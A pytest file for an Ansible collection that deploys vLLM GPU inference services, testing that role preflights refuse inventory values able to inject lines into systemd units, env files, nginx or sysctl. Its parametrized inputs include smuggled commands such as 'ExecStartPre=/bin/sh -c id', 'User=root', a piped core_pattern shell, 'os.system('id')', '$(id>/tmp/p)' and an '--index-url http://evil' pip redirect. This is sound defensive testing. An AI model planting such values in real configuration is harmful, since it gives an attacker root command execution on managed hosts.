"""Inventory values that reach unit files, environment files and nginx directives are refused before any host
is touched when they hold a character that would change what is written (issue 12, item 8; issue 29): a newline
would add a directive. The roles' own preflights (which start with the action role_values, the rules of
tests/unit/test_value_rules.py) run for real through ansible-playbook against this machine (connection local,
nothing written).
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]

SECRET = "instance-secret-0123456789abcdef"
INSTANCE = {"name": "main", "model": "/var/lib/gpufleet/models/tiny", "port": 8000, "gpus": [0]}
PLAYBOOK = """
- hosts: localhost
  connection: local
  gather_facts: false
  tasks:
    - ansible.builtin.include_role:
        name: "{{ role_under_test }}"
        tasks_from: preflight.yml
"""
PROXY_BASE = {
    "inference_proxy_tls_cert": "-----BEGIN CERTIFICATE-----\nQ0VSVA==\n-----END CERTIFICATE-----\n",
    "inference_proxy_tls_key": "-----BEGIN PRIVATE KEY-----\nS0VZ\n-----END PRIVATE KEY-----\n",
    "inference_proxy_api_keys": ["client-one-0123456789abcdef"],
    "inference_proxy_metrics_token": "metrics-token-0123456789",
    "inference_proxy_backends": [{"name": "main", "port": 8000}],
    "inference_proxy_backend_api_key": "vllm-own-key-0123456789abcdef",
}


def run_preflight(tmp_path: Path, role: str, variables: dict[str, object]) -> tuple[int, str]:
    book = tmp_path / "play.yml"
    book.write_text(PLAYBOOK)
    (tmp_path / "vars.json").write_text(
        json.dumps({**variables, "role_under_test": role, "ansible_python_interpreter": str(REPO / ".venv/bin/python")})
    )
    env = dict(os.environ, ANSIBLE_CONFIG=str(REPO / "ansible.cfg"), ANSIBLE_FORCE_COLOR="0", ANSIBLE_NOCOLOR="1")
    argv = [
        str(REPO / ".venv/bin/ansible-playbook"),
        "-i",
        "localhost,",
        "--check",
        str(book),
        "-e",
        f"@{tmp_path / 'vars.json'}",
    ]
    result = subprocess.run(argv, cwd=REPO, env=env, capture_output=True, text=True, timeout=180)
    return result.returncode, result.stdout + result.stderr


@pytest.mark.parametrize(
    ("instance", "message"),
    [
        # Python's `$` matches before a final newline: the name pattern alone let this through.
        ({"name": "main\n"}, "vllm_service_instances[0].name has U+000A (LINE FEED) at character 5"),
        ({"model": "/m\nExecStartPre=/bin/sh -c id"}, "vllm_service_instances[main].model has U+000A (LINE FEED)"),
        ({"extra_args": ["--x", "1\nUser=root"]}, "vllm_service_instances[main].extra_args[1] has U+000A (LINE FEED)"),
        (
            {"unit_overrides": {"CPUAffinity": "0-3\nUser=root"}},
            "vllm_service_instances[main].unit_overrides.CPUAffinity has U+000A (LINE FEED)",
        ),
        (
            {"unit_overrides": {"User=root\nX": "1"}},
            "a key of vllm_service_instances[main].unit_overrides has U+000A (LINE FEED) at character 10",
        ),
        ({"env": {"A=B": "1"}}, "a key of vllm_service_instances[main].env has U+003D (EQUALS SIGN)"),
        ({"env": {"A": "1\nVLLM_API_KEY=x"}}, "vllm_service_instances[main].env.A has U+000A (LINE FEED)"),
        ({"api_key": SECRET + "\nHF_TOKEN=x"}, "vllm_service_instances[main].api_key has U+000A (LINE FEED)"),
    ],
)
def test_vllm_service_refuses_values_that_add_a_line(tmp_path: Path, instance: dict, message: str) -> None:
    rc, output = run_preflight(tmp_path, "vllm_service", {"vllm_service_instances": [{**INSTANCE, **instance}]})
    assert rc == 2, output
    assert f"localhost: {message}" in " ".join(output.split())
    assert SECRET not in output


@pytest.mark.parametrize(
    ("variable", "value", "message"),
    [
        (
            "vllm_service_environment",
            {"HF_HOME": "/x\nExecStart=/bin/sh"},
            "vllm_service_environment.HF_HOME has U+000A",
        ),
        ("vllm_service_venv", "/opt/venv /etc/shadow", "vllm_service_venv has U+0020 (SPACE) at character 10"),
        ("vllm_service_user", "vllm\n", "vllm_service_user has U+000A (LINE FEED)"),
    ],
)
def test_vllm_service_refuses_role_values_that_add_a_line(
    tmp_path: Path, variable: str, value: object, message: str
) -> None:
    rc, output = run_preflight(tmp_path, "vllm_service", {"vllm_service_instances": [INSTANCE], variable: value})
    assert rc == 2, output
    assert message in " ".join(output.split())


def test_vllm_service_passes_its_checks_with_sane_values(tmp_path: Path) -> None:
    rc, output = run_preflight(
        tmp_path,
        "vllm_service",
        {
            "vllm_service_instances": [
                {
                    **INSTANCE,
                    "env": {"OMP_NUM_THREADS": "4"},
                    "unit_overrides": {"CPUAffinity": "0-3"},
                    "api_key": SECRET,
                }
            ]
        },
    )
    # It gets past every value check and stops only where it looks for the venv on this machine.
    assert "Refuse role variables its argument specs and value rules do not allow" in output, output
    assert "localhost: vllm_service" not in output, output


@pytest.mark.parametrize(
    ("variable", "value", "message"),
    [
        # The key pattern ends in `$`, which matches before a final newline: this key passed.
        (
            "inference_proxy_api_keys",
            ["client-one-0123456789abcdef\n"],
            "inference_proxy_api_keys[0] has U+000A (LINE FEED) at character 28",
        ),
        (
            "inference_proxy_backends",
            [{"name": "main\n", "port": 8000}],
            "inference_proxy_backends[0].name has U+000A (LINE FEED)",
        ),
        ("inference_proxy_rate_limit", "20r/s\n", "inference_proxy_rate_limit has U+000A (LINE FEED)"),
    ],
)
def test_inference_proxy_refuses_a_trailing_newline(tmp_path: Path, variable: str, value: object, message: str) -> None:
    rc, output = run_preflight(tmp_path, "inference_proxy", {**PROXY_BASE, variable: value})
    assert rc == 2, output
    assert f"localhost: {message}" in " ".join(output.split())
    assert "client-one-0123456789abcdef" not in output


KERNEL_PACKAGE = {
    "name": "flash-attn",
    "version": "2.8.3",
    "url": "http://10.213.7.1:8080/sdists/flash_attn-2.8.3.tar.gz",
    "sha256": "0" * 64,
    "import_name": "flash_attn",
    "env": {"FLASH_ATTENTION_FORCE_BUILD": "TRUE"},
}


@pytest.mark.parametrize(
    ("package", "message"),
    [
        # The install check runs `python -c "import NAME"`: this name was Python code run as root on every node.
        (
            {"import_name": "os; os.system('id')"},
            "flash_attn_packages[flash-attn].import_name has U+003B (SEMICOLON) at character 3",
        ),
        ({"env": {"MAX_JOBS=1 X": "1"}}, "a key of flash_attn_packages[flash-attn].env has U+003D (EQUALS SIGN)"),
        ({"env": {"NVCC_THREADS": "2\n"}}, "flash_attn_packages[flash-attn].env.NVCC_THREADS has U+000A (LINE FEED)"),
        (
            {"url": "http://mirror/x.tar.gz --index-url http://evil"},
            "flash_attn_packages[flash-attn].url has U+0020 (SPACE) at character 23",
        ),
        ({"version": "2.8.3 ; python_version>'3'"}, "flash_attn_packages[flash-attn].version has U+0020 (SPACE)"),
    ],
)
def test_flash_attn_refuses_package_values_that_run_code_or_add_a_line(
    tmp_path: Path, package: dict, message: str
) -> None:
    rc, output = run_preflight(
        tmp_path,
        "flash_attn",
        {"flash_attn_packages": [{**KERNEL_PACKAGE, **package}], "flash_attn_venv": str(tmp_path / "no-venv")},
    )
    assert rc == 2, output
    assert f"localhost: {message}" in " ".join(output.split())


def test_flash_attn_passes_its_checks_with_sane_values(tmp_path: Path) -> None:
    rc, output = run_preflight(
        tmp_path, "flash_attn", {"flash_attn_packages": [KERNEL_PACKAGE], "flash_attn_venv": str(tmp_path / "no-venv")}
    )
    assert rc == 0 and "localhost: flash_attn" not in output, output


@pytest.mark.parametrize(
    ("role", "variables", "message"),
    [
        # The review's reproductions (issue 29): each passed its role's preflight and was rendered.
        (
            "vllm_service",
            {"vllm_service_instances": [INSTANCE], "vllm_service_memory_max": '64G\nExecStartPre=+/bin/sh -c "id"'},
            "vllm_service_memory_max has U+000A (LINE FEED) at character 4 (rule memory_size?)",
        ),
        (
            "vllm_service",
            {"vllm_service_instances": [INSTANCE], "vllm_service_syscall_filter": ["@system-service\n[Service]"]},
            "vllm_service_syscall_filter[0] has U+000A (LINE FEED) at character 16 (rule syscall_set)",
        ),
        (
            "base",
            {"base_sysctl": {"vm.swappiness": "1\nkernel.core_pattern = |/bin/sh -c id"}},
            "base_sysctl.vm.swappiness has U+000A (LINE FEED) at character 2 (rule sysctl_value)",
        ),
        (
            "base",
            {"base_sysctl": {"kernel.core_pattern": "|/bin/sh -c id"}},
            "base_sysctl.kernel.core_pattern has U+007C (VERTICAL LINE) at character 1",
        ),
        (
            "pyenv_python",
            {
                "pyenv_python_versions": [
                    {
                        "version": "3.12.7",
                        "url": "https://mirror/python/Python-3.12.7.tgz?$(id>/tmp/p)#.tgz",
                        "sha256": "0" * 64,
                        "definition": "inventory",
                    }
                ]
            },
            "pyenv_python_versions[0].url has U+0024 (DOLLAR SIGN) at character 41",
        ),
        (
            "ray_cluster",
            {"ray_cluster_group": "ray_lab", "ray_cluster_node_address": "10.0.0.1\n"},
            "ray_cluster_node_address has U+000A (LINE FEED) at character 9 (rule host?)",
        ),
        (
            "model_store",
            {"model_store_models": [{"name": "..", "sha256": "0" * 64, "url": "https://mirror/m.tar.gz"}]},
            "model_store_models[0].name must be a name: letters, digits, . _ -, starting with a letter or digit (rule name)",
        ),
    ],
)
def test_each_role_refuses_the_reviewed_values_by_name_and_rule(
    tmp_path: Path, role: str, variables: dict, message: str
) -> None:
    rc, output = run_preflight(tmp_path, role, variables)
    assert rc == 2, output
    assert f"localhost: {message}" in " ".join(output.split()), output


@pytest.mark.parametrize(
    ("extra_args", "message"),
    [
        (["--host", "0.0.0.0"], "--host (the listener stays on vllm_service_host"),
        (["--api-key=sk-0123456789abcdef"], "--api-key (the key goes in the instance's environment file"),
        (["--trust_remote_code"], "--trust-remote-code (set the field trust_remote_code)"),
        (["--trust-remote"], "--trust-remote-code (set the field trust_remote_code)"),
        (["--allowed-local-media-path", "/"], "--allowed-local-media-path (clients would read the node's files"),
        (["--max-model-len", "4096"], "--max-model-len (set the field max_model_len)"),
    ],
)
def test_extra_args_that_override_a_field_or_the_hardening_are_refused_by_name(
    tmp_path: Path, extra_args: list[str], message: str
) -> None:
    rc, output = run_preflight(
        tmp_path, "vllm_service", {"vllm_service_instances": [{**INSTANCE, "extra_args": extra_args}]}
    )
    assert rc == 2, output
    assert f"localhost: vllm@main: extra_args may not hold {message}" in " ".join(output.split()), output
    assert "sk-0123456789abcdef" not in output


def test_extra_args_of_other_flags_pass() -> None:
    from ansible_collections.gpufleet.fleet.plugins.filter.gpufleet_vllm import overridden_flags

    refused = {"--host": "h", "--trust-remote-code": "t", "--port": "p"}
    assert overridden_flags(["--enable-auto-tool-choice", "--tool-call-parser", "hermes", "-O3"], refused) == []
    assert overridden_flags(["--hostname-check", "--p"], refused) == []
